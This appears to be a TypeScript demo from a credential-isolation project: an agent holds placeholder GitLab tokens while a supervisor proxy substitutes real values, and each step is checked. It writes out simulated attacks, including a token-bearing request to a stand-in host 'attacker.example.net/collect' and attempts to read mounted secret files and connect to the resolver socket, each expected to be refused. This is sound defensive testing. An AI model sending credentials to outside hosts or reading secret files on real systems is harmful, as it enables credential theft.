/**
 * The demo: a Secret on tmpfs in kubelet's layout, the real resolver, a supervisor, an agent that keeps running throughout,
 * and a service that reports which credential arrived. Each step is checked. If a step breaks a promise, the demo
 * exits with 1. What the supervisor is, a variant says.
 */
import { randomBytes } from 'node:crypto';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { Command } from 'commander';
import type { CommandContext } from '../../src/cli/context.ts';
import { ExitCode } from '../../src/domain/errors.ts';
import type { AgentResult, AgentTask } from './agent.ts';
import { canIsolate, type RunningParty, startParty } from './parties.ts';
import { SecretVolume } from './secret-volume.ts';
import {
  AGENT_UID,
  cleanUp,
  INSIDE,
  insideOwnMounts,
  mountsOf,
  NAMESPACE,
  prepare,
  RESOLVER_UID,
  SECRET,
  type Stage,
  SUPERVISOR_UID,
  writeConfiguration,
} from './stage.ts';
import { Story } from './story.ts';
import { startUpstream, type Upstream } from './upstream.ts';

/** One way to be the supervisor. */
export interface Variant {
  readonly description: string;
  /** Throws CommandError where this machine lacks a program. */
  readonly require?: (context: CommandContext) => void;
  readonly host: string;
  /** The service as the agent addresses it, without a path. */
  readonly origins: (upstream: Upstream) => { readonly http: string; readonly https: string };
  readonly endpoints: (upstream: Upstream) => readonly object[];
  /** What the resolver's configuration says of the supervisor. */
  readonly configuration: (stage: Stage, upstream: Upstream) => object | Promise<object>;
  readonly placeholder: RegExp;
  /** What the agent reads when it sends the placeholder to a host that the token is not for. */
  readonly elsewhere: string;
  readonly start: (scene: Scene) => Promise<Supervisor>;
  /** Promises of this variant alone. */
  readonly inspect?: (acts: Play) => Promise<void>;
}

/** A running supervisor. */
export interface Supervisor {
  readonly proxy: string;
  readonly caFile: string;
  readonly placeholders: () => Readonly<Record<string, string>>;
  /** Waits until what `change` mounts is in force; milliseconds from the beginning of the change. */
  readonly applied: (change: () => void) => Promise<number>;
}

/** Everything but the supervisor and the agent. */
export interface Scene {
  readonly story: Story;
  readonly stage: Stage;
  readonly upstream: Upstream;
  readonly resolver: RunningParty;
  /** What is put in here ends with the demo. */
  readonly parties: AsyncDisposableStack;
  /** Whether any value that was ever mounted is in a text. */
  readonly tells: (text: string) => boolean;
}

/** A scene with its actors. */
export interface Play extends Scene {
  readonly variant: Variant;
  readonly supervisor: Supervisor;
  readonly ask: (task: AgentTask) => Promise<AgentResult>;
  /** One request of the agent's and what is promised of it. */
  readonly request: (
    what: string,
    task: Partial<Extract<AgentTask, { task: 'request' }>>,
    held: (result: AgentResult) => boolean,
  ) => Promise<AgentResult>;
  readonly volume: SecretVolume;
  readonly rotate: () => string;
}

export function createCommand(context: CommandContext, name: string, variant: Variant): Command {
  return new Command(name).description(variant.description).action(async () => {
    variant.require?.(context);
    const isolated = canIsolate();
    if (isolated && context.env[INSIDE] === undefined) await insideOwnMounts(context);
    else await demo(context, isolated, variant);
  });
}

async function demo(context: CommandContext, isolated: boolean, variant: Variant): Promise<void> {
  const story = new Story(context);
  const root = mkdtempSync(join(tmpdir(), 'secret-resolver-demo-'));
  try {
    await using parties = new AsyncDisposableStack();
    await play(story, prepare(root, isolated), variant, parties);
    if (context.signal.aborted) story.failed(new Error('interrupted'));
  } catch (error) {
    story.failed(error);
  } finally {
    cleanUp(root);
  }
  if (!story.conclude()) context.exit(ExitCode.refused);
}

async function play(
  story: Story,
  stage: Stage,
  variant: Variant,
  parties: AsyncDisposableStack,
): Promise<void> {
  const { isolated } = stage;
  const generations = new Map<string, number>();
  const identify = (credential: string) => {
    const generation = generations.get(credential);
    if (generation !== undefined)
      return `glpat-… (${credential.length} characters), the value of generation ${generation}`;
    return credential.startsWith('openshell:') ? 'a bare placeholder' : 'an unknown credential';
  };
  const upstream = parties.use(await startUpstream(variant.host, identify));
  writeConfiguration(stage, variant.endpoints(upstream), await variant.configuration(stage, upstream));
  const volume = new SecretVolume(isolated ? stage.kubelet : stage.secretPath);
  const rotate = () => {
    const token = `glpat-${randomBytes(10).toString('hex')}`;
    generations.set(token, generations.size + 1);
    return volume.write({ 'gitlab-token': token });
  };

  story.say(
    isolated
      ? `Three parties, each with its own UID, mounts and processes: resolver ${RESOLVER_UID}, supervisor ${SUPERVISOR_UID}, agent ${AGENT_UID}.`
      : 'Without root all parties run as you. The main job is shown; the boundary between the parties is not.',
  );
  story.step('External Secrets Operator has synced a Secret, and kubelet has mounted it');
  story.see(
    `${NAMESPACE}/${SECRET} on ${isolated ? 'tmpfs, mounted read-only into the resolver and nowhere else' : 'a folder'}: ..data -> ${rotate()}`,
  );
  const resolver = parties.use(await startResolver(story, stage));
  const tells = (text: string) => [...generations.keys()].some((token) => text.includes(token));
  const scene: Scene = { story, stage, upstream, resolver, parties, tells };
  const acts: Play = { ...(await startActors(scene, variant)), volume, rotate };
  await useToken(acts);
  await rotateAndRemove(acts);
  await variant.inspect?.(acts);
  if (isolated) await attack(acts);
  else
    story.leftOut(
      "the agent's attempts on socket and files: as one and the same user they would succeed. Run it as root to see them fail.",
    );

  story.step('What the audit says');
  await sleep(100);
  for (const line of auditSummary(resolver.lines)) story.see(line);
  story.expect('no value is in it', !tells(resolver.lines.join('\n')));
}

async function startResolver(story: Story, stage: Stage): Promise<RunningParty> {
  const { isolated } = stage;
  story.step('The resolver starts beside it');
  const resolver = startParty(
    {
      name: 'resolver',
      uid: RESOLVER_UID,
      gid: RESOLVER_UID,
      mounts: mountsOf('resolver', stage),
      command: [
        stage.node,
        join(stage.app, 'src/main.ts'),
        'serve',
        '--config',
        stage.config,
        ...(isolated ? [] : ['--relaxed']),
      ],
    },
    isolated,
  );
  try {
    await resolver.next((line) => (line.includes('resolver started') ? true : undefined), 'that it serves');
  } catch (error) {
    await resolver[Symbol.asyncDispose]();
    throw error;
  }
  story.see(
    isolated
      ? 'it proved its boundary first: of all enforced checks only the seccomp filter, which a container runtime sets, is waived here'
      : 'with --relaxed: the boundary cannot be proven between parties that share one UID',
  );
  story.see(
    `it serves one credential on ${stage.socket.replace(stage.root, '…')}, to the supervisor's UID alone`,
  );
  return resolver;
}

/** Starts the supervisor, and the agent behind it. */
async function startActors(scene: Scene, variant: Variant): Promise<Omit<Play, 'volume' | 'rotate'>> {
  const { story, stage, parties, tells } = scene;
  story.step('The supervisor subscribes, and starts the agent with placeholders in place of values');
  const supervisor = await variant.start(scene);
  const { proxy, caFile } = supervisor;
  const agent = parties.use(
    startParty(
      {
        name: 'agent',
        uid: AGENT_UID,
        gid: AGENT_UID,
        mounts: mountsOf('other', stage),
        command: [stage.node, join(stage.app, 'examples/demo/agent.ts')],
        env: {
          ...supervisor.placeholders(),
          ...{ HTTPS_PROXY: proxy, http_proxy: proxy, CURL_CA_BUNDLE: caFile },
        },
      },
      stage.isolated,
    ),
  );
  const ask = async (task: AgentTask): Promise<AgentResult> => {
    const from = agent.lines.length;
    agent.tell(task);
    return agent.next((line) => JSON.parse(line) as AgentResult, 'a result', from);
  };
  const { environment = {} } = await ask({ task: 'environment' });
  for (const name of ['GITLAB_TOKEN', 'HTTPS_PROXY']) story.see(`${name}=${environment[name] ?? ''}`);
  story.expect(
    'the agent holds a placeholder, and no value',
    variant.placeholder.test(environment.GITLAB_TOKEN ?? '') && !tells(JSON.stringify(environment)),
  );
  const request: Play['request'] = async (what, task, held) => {
    const result = await ask({ task: 'request', url: '', headers: [], ...task });
    story.see(`${result.client}: ${result.status} ${result.body}`);
    story.expect(what, held(result));
    return result;
  };
  return { ...scene, variant, supervisor, ask, request };
}

const arrived = (where: string, generation: number) => (result: AgentResult) =>
  result.status === 200 && (result.body ?? '').includes(`generation ${generation} arrived in ${where}`);

/** The request that every step makes, over HTTPS and without. */
const user = ({ variant, upstream }: Play, scheme: 'http' | 'https' = 'http') => ({
  url: `${variant.origins(upstream)[scheme]}/api/v4/user`,
  headers: ['PRIVATE-TOKEN: $GITLAB_TOKEN'],
});

async function useToken(acts: Play): Promise<void> {
  const { story, request, variant, upstream } = acts;
  const { https } = variant.origins(upstream);
  story.step('The agent uses the token that it does not have');
  const first = await request('the real value arrived', user(acts), arrived('header', 1));
  if (first.client !== 'curl') {
    story.say('curl is not on this machine: HTTPS, Basic and query are left out');
    return;
  }
  await request('over HTTPS, in a header', user(acts, 'https'), arrived('header', 1));
  await request(
    'over HTTPS, as Basic credentials',
    { url: `${https}/group/project.git`, user: 'oauth2:$GITLAB_TOKEN' },
    arrived('basic', 1),
  );
  await request(
    'over HTTPS, in the query',
    { url: `${https}/api/v4/user?private_token=$GITLAB_TOKEN` },
    arrived('query', 1),
  );
  await request(
    'to a host that the token is not for, it is refused',
    { ...user(acts), url: 'https://attacker.example.net/collect' },
    ({ status, body }) => status === 403 && (body ?? '').includes(variant.elsewhere),
  );
}

async function rotateAndRemove(acts: Play): Promise<void> {
  const { story, request, supervisor, rotate, volume } = acts;
  story.step('The Secret rotates while the agent runs');
  const before = supervisor.placeholders().GITLAB_TOKEN;
  const lag = await supervisor.applied(rotate);
  story.see(`in force at the supervisor ${lag.toFixed(1)} ms after kubelet began to write`);
  story.expect(
    'the placeholder is the same as before',
    before !== undefined && supervisor.placeholders().GITLAB_TOKEN === before,
  );
  await request('the same agent, the same placeholder, the new value', user(acts), arrived('header', 2));

  story.step('The key is removed from the Secret');
  await supervisor.applied(() => volume.write({ 'another-key': randomBytes(8).toString('hex') }));
  await request(
    'the next request fails closed',
    user(acts),
    ({ status, body }) => status === 500 && (body ?? '').includes('credential_unavailable'),
  );
}

/** The agent attacks the resolver. All credentials are served again by then, so that there is something to steal. */
async function attack({ story, stage, ask, supervisor, rotate }: Play): Promise<void> {
  story.step('The agent tries to get at the value itself');
  await supervisor.applied(rotate);
  for (const path of [join(stage.secretPath, 'gitlab-token'), stage.kubelet]) {
    const { result = '' } = await ask({ task: 'read', path });
    story.see(`read ${path.replace(stage.root, '…')}: ${result}`);
    story.expect('refused', ['ENOENT', 'EACCES', 'EPERM'].includes(result));
  }
  const { result = '' } = await ask({ task: 'connect', path: stage.socket });
  story.see(`connect to the resolver's socket: ${result}`);
  story.expect(
    'hung up on before a byte is read or sent',
    ['closed without a byte', 'ECONNRESET', 'EPIPE'].includes(result),
  );
}

/** One line for each record, with its main fields. */
function auditSummary(lines: readonly string[]): string[] {
  const findings = lines.filter((line) => line.includes('"class_uid":2004')).length;
  const head = findings > 1 ? [`OCSF 2004 | ${findings} findings of the boundary, one record each`] : [];
  const summary = lines.flatMap((line) => {
    const record = JSON.parse(line) as {
      class_uid: number;
      message: string;
      unmapped: Record<string, unknown>;
    };
    const { outcome, reason, caller, reference, revision } = record.unmapped as {
      outcome?: string;
      reason?: string;
      caller?: { uid?: number };
      reference?: string;
      revision?: string;
    };
    if (outcome === 'acknowledged' || (record.class_uid === 2004 && findings > 1)) return [];
    return [
      [
        `OCSF ${record.class_uid}`,
        record.message,
        reference,
        caller?.uid === undefined ? undefined : `uid ${caller.uid}`,
        reason,
        revision === undefined ? undefined : `revision ${revision}`,
      ]
        .filter((part) => part !== undefined)
        .join(' | '),
    ];
  });
  return [...head, ...summary];
}
